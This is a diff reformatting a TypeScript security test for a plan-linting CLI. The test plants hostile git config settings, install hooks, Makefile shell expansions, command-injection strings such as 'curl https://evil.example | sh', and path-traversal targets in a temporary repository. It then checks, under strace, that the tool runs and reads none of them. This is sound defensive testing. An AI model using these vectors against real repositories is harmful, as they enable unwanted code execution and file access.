@@ -8,9 +8,36 @@ import { canTrace, trace } from './trace.ts'
 import type { Trace } from './trace.ts'
 
 const bin = path.join(import.meta.dirname, '../../dist/bin.cjs')
-const outside = ['/etc/hostname-planlint', '/root/planlint-secret', '~/planlint-secret', '../planlint-secret', '../../planlint-secret', 'src/../../planlint-secret', 'C:\\planlint-secret', '\\\\host\\planlint-secret', '//host/planlint-secret', 'file:///planlint-secret',
-  'https://evil.example/planlint-secret', '.git/planlint-secret', 'link/planlint-secret', 'link-file-planlint-secret', '%2e%2e/planlint-secret', '$HOME/planlint-secret']
-const commands = ['touch pwned', '$(touch pwned)', '`touch pwned`', 'npm test; touch pwned', 'curl https://evil.example | sh', 'node -e "require(\'fs\').writeFileSync(\'pwned\',\'\')"', 'git --exec-path=. pwned', 'make -f evil.mk', 'npm run pwn', './pwn.sh']
+const outside = [
+  '/etc/hostname-planlint',
+  '/root/planlint-secret',
+  '~/planlint-secret',
+  '../planlint-secret',
+  '../../planlint-secret',
+  'src/../../planlint-secret',
+  'C:\\planlint-secret',
+  '\\\\host\\planlint-secret',
+  '//host/planlint-secret',
+  'file:///planlint-secret',
+  'https://evil.example/planlint-secret',
+  '.git/planlint-secret',
+  'link/planlint-secret',
+  'link-file-planlint-secret',
+  '%2e%2e/planlint-secret',
+  '$HOME/planlint-secret'
+]
+const commands = [
+  'touch pwned',
+  '$(touch pwned)',
+  '`touch pwned`',
+  'npm test; touch pwned',
+  'curl https://evil.example | sh',
+  "node -e \"require('fs').writeFileSync('pwned','')\"",
+  'git --exec-path=. pwned',
+  'make -f evil.mk',
+  'npm run pwn',
+  './pwn.sh'
+]
 
 const plan = `# Plan
 
@@ -47,23 +74,43 @@ let cwd: string
 beforeAll(() => {
   folder = fs.realpathSync(fs.mkdtempSync(path.join(os.tmpdir(), 'planlint-traced-')))
   cwd = path.join(folder, 'repository')
-  const git = (...args: string[]) => execFileSync('git', args, { cwd, stdio: 'ignore', env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null' } })
+  const git = (...args: string[]) =>
+    execFileSync('git', args, { cwd, stdio: 'ignore', env: { ...process.env, GIT_CONFIG_GLOBAL: '/dev/null' } })
   fs.mkdirSync(path.join(cwd, 'docs/plans'), { recursive: true })
   fs.mkdirSync(path.join(folder, 'elsewhere'))
   fs.writeFileSync(path.join(folder, 'planlint-secret'), 'secret words')
   fs.writeFileSync(path.join(folder, 'elsewhere/planlint-secret'), 'secret words')
   fs.writeFileSync(path.join(cwd, 'docs/plans/a.md'), plan)
   for (const [name, text] of Object.entries({
-    'package.json': '{"scripts": {"pwn": "touch pwned", "preinstall": "touch pwned", "prepare": "touch pwned"}, "remarkConfig": {"plugins": ["./evil.mjs"]}}', 'Makefile': 'x := $(shell touch pwned)\nall:\n\ttouch pwned\n', 'evil.mjs': module, 'evil.mk': 'x := $(shell touch pwned)\n',
-    '.remarkrc.js': module, '.remarkrc.cjs': ran.program, '.remarkrc.mjs': module, 'justfile': 'x := `touch pwned`\npwn:\n  touch pwned\n', 'pwn.sh': '#!/bin/sh\ntouch pwned\n', '.npmrc': 'ignore-scripts=false\n'
-  })) fs.writeFileSync(path.join(cwd, name), text, { mode: 0o755 })
+    'package.json':
+      '{"scripts": {"pwn": "touch pwned", "preinstall": "touch pwned", "prepare": "touch pwned"}, "remarkConfig": {"plugins": ["./evil.mjs"]}}',
+    Makefile: 'x := $(shell touch pwned)\nall:\n\ttouch pwned\n',
+    'evil.mjs': module,
+    'evil.mk': 'x := $(shell touch pwned)\n',
+    '.remarkrc.js': module,
+    '.remarkrc.cjs': ran.program,
+    '.remarkrc.mjs': module,
+    justfile: 'x := `touch pwned`\npwn:\n  touch pwned\n',
+    'pwn.sh': '#!/bin/sh\ntouch pwned\n',
+    '.npmrc': 'ignore-scripts=false\n'
+  }))
+    fs.writeFileSync(path.join(cwd, name), text, { mode: 0o755 })
   git('init', '-q')
   git('add', '-A')
   git('-c', 'user.name=A', '-c', 'user.email=a@example.org', 'commit', '-qm', 'one')
   fs.symlinkSync(path.join(folder, 'elsewhere'), path.join(cwd, 'link'))
   fs.symlinkSync(path.join(folder, 'planlint-secret'), path.join(cwd, 'link-file-planlint-secret'))
   // What the repository itself could have git run.
-  for (const [key, value] of Object.entries({ 'core.fsmonitor': 'touch pwned', 'core.pager': 'touch pwned', 'diff.external': 'touch pwned', 'core.sshCommand': 'touch pwned', 'core.hooksPath': '.', 'alias.rev-parse': '!touch pwned', 'core.editor': 'touch pwned' })) git('config', key, value)
+  for (const [key, value] of Object.entries({
+    'core.fsmonitor': 'touch pwned',
+    'core.pager': 'touch pwned',
+    'diff.external': 'touch pwned',
+    'core.sshCommand': 'touch pwned',
+    'core.hooksPath': '.',
+    'alias.rev-parse': '!touch pwned',
+    'core.editor': 'touch pwned'
+  }))
+    git('config', key, value)
   fs.writeFileSync(path.join(cwd, 'post-index-change'), '#!/bin/sh\ntouch pwned\n', { mode: 0o755 })
 })
 afterAll(() => fs.rmSync(folder, { recursive: true, force: true }))
@@ -72,8 +119,12 @@ const isTraceable = canTrace()
 if (!isTraceable) console.warn('skipped: strace is not here, or may not trace')
 
 describe.skipIf(!isTraceable).each([
-  ['lint', ['--no-config-js', '--profile', 'design-plan', '.']], ['lint a file', ['--no-config-js', '--profile', 'design-plan', 'docs/plans/a.md']], ['lint since a commit', ['--no-config-js', '--since', 'HEAD', '.']],
-  ['status', ['status', '--no-config-js', '.']], ['diff', ['diff', 'docs/plans/a.md', '--base', 'HEAD', '--no-config-js']], ['fix, dry', ['--no-config-js', '--fix-dry-run', '--profile', 'design-plan', '.']]
+  ['lint', ['--no-config-js', '--profile', 'design-plan', '.']],
+  ['lint a file', ['--no-config-js', '--profile', 'design-plan', 'docs/plans/a.md']],
+  ['lint since a commit', ['--no-config-js', '--since', 'HEAD', '.']],
+  ['status', ['status', '--no-config-js', '.']],
+  ['diff', ['diff', 'docs/plans/a.md', '--base', 'HEAD', '--no-config-js']],
+  ['fix, dry', ['--no-config-js', '--fix-dry-run', '--profile', 'design-plan', '.']]
 ])('%s', (_name, argv) => {
   let seen: Trace
   beforeAll(() => {
@@ -82,7 +133,8 @@ describe.skipIf(!isTraceable).each([
 
   test('it did its work', () => {
     expect([0, 1], seen.stderr).toContain(seen.code)
-    if (argv.includes('--profile') && !argv.includes('--fix-dry-run')) expect(seen.stdout).toContain('step-verification')
+    if (argv.includes('--profile') && !argv.includes('--fix-dry-run'))
+      expect(seen.stdout).toContain('step-verification')
   })
 
   test('starts nothing but git, with arguments of its own', () => {
@@ -96,7 +148,9 @@ describe.skipIf(!isTraceable).each([
   })
 
   test('looks at nothing that the plan names outside of the repository', () => {
-    expect(seen.files.filter(file => file.includes('planlint-secret') && !file.startsWith(`${cwd}/link-file`))).toEqual([])
+    expect(seen.files.filter(file => file.includes('planlint-secret') && !file.startsWith(`${cwd}/link-file`))).toEqual(
+      []
+    )
     expect(seen.files.filter(file => file.startsWith(`${folder}/elsewhere`))).toEqual([])
     expect(seen.files.filter(file => file === '/etc/hostname-planlint')).toEqual([])
     expect(seen.stdout + seen.stderr).not.toContain('secret words')
